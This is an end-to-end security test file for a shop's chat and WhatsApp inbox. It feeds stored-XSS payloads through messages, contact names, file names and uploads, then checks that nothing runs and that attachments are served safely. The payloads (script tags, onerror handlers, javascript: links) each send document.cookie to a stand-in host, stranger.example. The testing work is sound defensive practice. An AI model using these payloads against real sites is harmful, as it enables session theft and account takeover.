import { readFileSync } from "node:fs";
import type { Page } from "playwright-core";
import { describe, expect, test } from "vitest";
import { until } from "#testing/product.ts";
import { sharedPath } from "#testing/shared-material.ts";
import type { Conversation } from "#modules/conversations/conversations.contract.ts";
import { picture, openBrowser } from "./support/browser.ts";
import { openChat } from "./support/chat.ts";
import { expectNothingRan } from "./support/inert.ts";
import { phonePage, signIn, startShop } from "./support/shop.ts";

const shop = await startShop({ simulator: phonePage });
if (!shop.sim) throw new Error("The simulator runs.");
const sim = shop.sim;
// Whatever a page asks of the stranger's address is a failure: only these two are allowed.
const browser = openBrowser(shop.url, sim.url);

const stranger = "https://stranger.example";
const run = `window.intruder=1;fetch('${stranger}/'+document.cookie)`;
const attacks = [
  `<img src=x onerror="${run}">`,
  `<script>${run}</script>`,
  `"><svg onload="${run}">`,
  `[clique](javascript:${run})`,
  `javascript:${run}`,
  `<iframe srcdoc="<script>parent.intruder=1</script>"></iframe>`,
  `data:text/html,<script>${run}</script>`,
  `*<b onmouseover="${run}">negrito</b>* _x_ ~y~ \`\`\`<img src=x onerror=intruder=1>\`\`\``,
  "https://user:pass@stranger.example/?q=<script> fim",
];

/** Those of the reference material, where it is at hand. */
const path = sharedPath("vectors", "attacks.json");
const writtenAttacks =
  path === null
    ? []
    : (JSON.parse(readFileSync(path, "utf8")) as { cases: { class: string; input: { text?: string } }[] }).cases.flatMap((one) =>
        one.class === "xss.stored" && one.input.text !== undefined ? [one.input.text] : [],
      );

const expectInert = (page: Page) => expectNothingRan(page, browser, (url) => url.startsWith(stranger) || url.endsWith("/x"));

describe("what strangers write stays text", () => {
  test("from a visitor of the web chat, in the chat and in the inbox", async () => {
    const visitorPage = await (await browser.person()).newPage();
    await visitorPage.goto(`${shop.url}/chat`);
    const chat = await openChat(visitorPage);
    for (const attack of attacks) {
      await chat.say(attack);
      await chat.frame
        .locator(".row.mine .text")
        .filter({ hasText: attack.slice(0, 12) })
        .last()
        .waitFor();
    }
    await expect.poll(() => chat.frame.getByRole("img", { name: "Aguardando envio" }).count(), { timeout: 15_000 }).toBe(0);
    await chat.frame.locator('input[type="file"]').setInputFiles([
      { name: `"><img src=x onerror=intruder=1>.txt`, mimeType: "text/plain", buffer: Buffer.from("texto") },
      { name: "pagina.html", mimeType: "text/html", buffer: Buffer.from("<script>window.intruder=1</script>") },
    ]);
    await chat.frame.getByRole("button", { name: "Enviar mensagem" }).click();
    await expectInert(visitorPage);

    const conversation = await until(
      async () => (await shop.get<{ items: Conversation[] }>("/api/omni/conversations?channel=webchat&limit=1")).items[0],
    );
    const team = await browser.person();
    await signIn(team, shop.url);
    const page = await team.newPage();
    await page.goto(`${shop.url}/inbox/${conversation.id}`);
    const messages = page.getByRole("region", { name: "Conversa", exact: true });
    await messages
      .getByRole("article")
      .filter({ hasText: attacks[8]?.slice(0, 20) ?? "" })
      .first()
      .waitFor();
    await expectInert(page);
    await picture(page, "inbox-attacks");
    // A page that a stranger uploaded is a download, never a page of this origin.
    const stored = await shop.messages(conversation.id);
    for (const { url } of stored.flatMap((message) => message.attachments)) {
      if (url === null) continue;
      const opened = await page.request.get(new URL(url, shop.url).href);
      const { "content-type": type = "", "content-disposition": disposition = "", "x-content-type-options": sniff } = opened.headers();
      expect(sniff).toBe("nosniff");
      expect(/^text\/html|svg/.test(type) && !disposition.startsWith("attachment"), `${type} ${disposition}`).toBe(false);
    }
  });

  test("from a customer of WhatsApp: name, texts, file names, places, contacts, reactions", async () => {
    const [name = "", ...texts] = attacks;
    const contact = sim.addContact({ channel: "whatsapp", name, address: "5531977776666" }).id;
    for (const text of [...texts, ...writtenAttacks]) await sim.inbound({ type: "text", contact, text });
    await sim.inbound({ type: "document", contact, filename: `${name}.pdf`, caption: texts[1] ?? "" });
    await sim.inbound({ type: "location", contact, latitude: 1, longitude: 2, placeName: name, address: texts[2] ?? "" });
    await sim.inbound({ type: "contacts", contact, contacts: [{ name, phone: "+55 11 91234-0000" }] });
    await sim.inbound({ type: "order", contact, items: [{ retailerId: name, quantity: 1, price: 10 }], text: name });
    await sim.inbound({ type: "ad", contact, text: name, headline: name });
    await shop.settle();
    const channels = await shop.get<{ items: { id: string; externalId: string }[] }>("/api/omni/channels");
    const channel = channels.items.find(({ externalId }) => externalId === sim.config.phoneNumberId)?.id ?? "";
    const conversation = await until(async () => (await shop.conversations(channel))[0]);
    expect(conversation.customer.name).toBe(name);

    const team = await browser.person();
    await signIn(team, shop.url);
    const page = await team.newPage();
    await page.goto(`${shop.url}/inbox/${conversation.id}`);
    await page.getByRole("heading", { name }).first().waitFor();
    // A thread with much that is new opens at its first new message; read once, it opens at the end.
    await page.waitForTimeout(1500);
    await page.reload();
    await page.getByRole("region", { name: "Conversa", exact: true }).getByText("Veio de um anúncio").waitFor();
    await expectInert(page);
    const list = page.getByRole("region", { name: "Conversa", exact: true }).getByRole("article").first();
    await list.scrollIntoViewIfNeeded();
    await expectInert(page);
    await page.goto(`${shop.url}/inbox?q=${encodeURIComponent(name)}`);
    await page.getByLabel("Filtrar conversas").waitFor();
    await expectInert(page);
    await picture(page, "inbox-attacks-whatsapp");

    const phone = await (await browser.person()).newPage();
    await phone.goto(sim.url);
    await phone
      .getByRole("button", { name: name.slice(0, 10) })
      .first()
      .click();
    await phone
      .getByRole("log")
      .getByText(texts[0]?.slice(0, 20) ?? "")
      .first()
      .waitFor();
    await expectInert(phone);
  });
});
